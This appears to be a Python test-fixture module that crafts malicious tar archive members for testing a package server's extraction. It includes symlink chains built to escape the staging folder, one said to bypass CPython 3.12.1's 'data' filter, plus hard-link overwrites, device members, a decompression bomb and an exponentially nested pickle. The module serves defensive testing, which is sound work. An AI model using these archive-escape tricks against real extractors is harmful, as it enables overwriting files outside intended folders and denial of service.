"""Members an attacker adds to a reference package, each aimed at a folder outside the staging folder."""

from __future__ import annotations

import io
import os
import pickle
import tarfile
from collections.abc import Callable
from pathlib import Path

from package_server import add_member

Extra = Callable[[tarfile.TarFile], None]


def _folder(tar: tarfile.TarFile, name: str) -> None:
    add_member(tar, name, kind=tarfile.DIRTYPE)


# "../" enough to reach "/" from any test's staging folder: the kernel stops at
# "/", while the lexical view of the long chain still ends inside the folder.
_CLIMB = "../" * 16


def long_link_chain(target: Path) -> Extra:
    """A chain that tarfile's "data" filter lets through on CPython 3.12.1.

    Folders with 250-character names, about 4 KB deep, each holding `y -> .`;
    `z` aliases the bottom and one more folder below it puts the resolved path
    past PATH_MAX, where os.path.realpath stops resolving links and takes each
    `y/..` as a no-op while the kernel climbs one level per pair. The final
    link leaves the staging folder for `target`, and `esc/x.txt` is written there.
    """
    names = [chr(ord("a") + k) * 250 for k in range(16)]
    deeper = "w" * 250

    def extra(tar: tarfile.TarFile) -> None:
        path = "package/S"
        _folder(tar, path)
        for name in names:
            path = f"{path}/{name}"
            _folder(tar, path)
            add_member(tar, f"{path}/y", kind=tarfile.SYMTYPE, linkname=".")
        add_member(tar, "package/S/z", kind=tarfile.SYMTYPE, linkname="/".join(names))
        _folder(tar, f"package/S/z/{deeper}")
        add_member(tar, f"package/S/z/{deeper}/y", kind=tarfile.SYMTYPE, linkname=".")
        link = f"z/{deeper}/" + "y/../" * (len(names) + 1) + _CLIMB + str(target).lstrip("/")
        add_member(tar, "package/S/esc", kind=tarfile.SYMTYPE, linkname=link)
        add_member(tar, "package/S/esc/x.txt", data=b"escaped")

    return extra


def short_link_chain(target: Path) -> Extra:
    """`x -> .` and `esc -> x/x/.../../../<target>`: escapes where no extraction filter exists (3.11.0 to 3.11.3).

    Read lexically the `x/` and `../` cancel and the link stays inside; the kernel
    takes every `x` as the folder itself and climbs to "/".
    """

    def extra(tar: tarfile.TarFile) -> None:
        add_member(tar, "package/x", kind=tarfile.SYMTYPE, linkname=".")
        link = (
            "x/" * 20 + "../" * 20 + str(target).lstrip("/")
        )  # 20 links: the kernel follows up to 40
        add_member(tar, "package/esc", kind=tarfile.SYMTYPE, linkname=link)
        add_member(tar, "package/esc/file", data=b"escaped")

    return extra


def hard_link(target: Path) -> Extra:
    def extra(tar: tarfile.TarFile) -> None:
        add_member(tar, "package/hard", kind=tarfile.LNKTYPE, linkname=str(target / "victim"))
        add_member(tar, "package/hard", data=b"overwritten through the link")

    return extra


def special(kind: bytes) -> Callable[[Path], Extra]:
    """A device or FIFO member, followed by a file that would be written through it."""

    def build(target: Path) -> Extra:
        def extra(tar: tarfile.TarFile) -> None:
            info = tarfile.TarInfo("package/special")
            info.type = kind
            info.devmajor, info.devminor = 1, 3  # /dev/null's numbers
            tar.addfile(info)

        return extra

    return build


def sparse_member(target: Path) -> Extra:
    """An old GNU sparse member: tarfile counts it as a regular file."""

    def extra(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo("package/sparse.mvd")
        info.type = tarfile.GNUTYPE_SPARSE
        tar.addfile(info)

    return extra


def overlong_name(target: Path) -> Extra:
    """A component longer than any file system takes (NAME_MAX is 255 bytes)."""

    def extra(tar: tarfile.TarFile) -> None:
        add_member(tar, "package/" + "n" * 300, data=b"x")

    return extra


def too_deep(target: Path) -> Extra:
    def extra(tar: tarfile.TarFile) -> None:
        add_member(tar, "package/" + "d/" * 40 + "file", data=b"x")

    return extra


def zeros(name: str, size: int) -> Extra:
    """A member of `size` zero bytes: compressed, a decompression bomb."""

    def extra(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo(name)
        info.size = size
        tar.addfile(info, _Zeros(size))

    return extra


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self._left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
        count = min(len(buffer), self._left)
        buffer[:count] = bytes(count)
        self._left -= count
        return count


def shared_reference_metadata(folder: Path, levels: int = 60) -> bytes:
    """The store's metadata with a list nested `levels` times, each level twice the one below: 2**levels leaves."""
    metadata = pickle.loads((folder / "metadata.pkl").read_bytes())
    nested: list = []
    for _ in range(levels):
        nested = [nested, nested]
    metadata["meta"]["trap"] = nested
    return pickle.dumps(metadata, protocol=pickle.HIGHEST_PROTOCOL)


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below `folder` (links not followed) with its bytes."""
    found: dict[str, bytes] = {}
    for root, _, files in os.walk(folder):
        for name in files:
            path = Path(root) / name
            found[str(path.relative_to(folder))] = path.read_bytes()
    return found
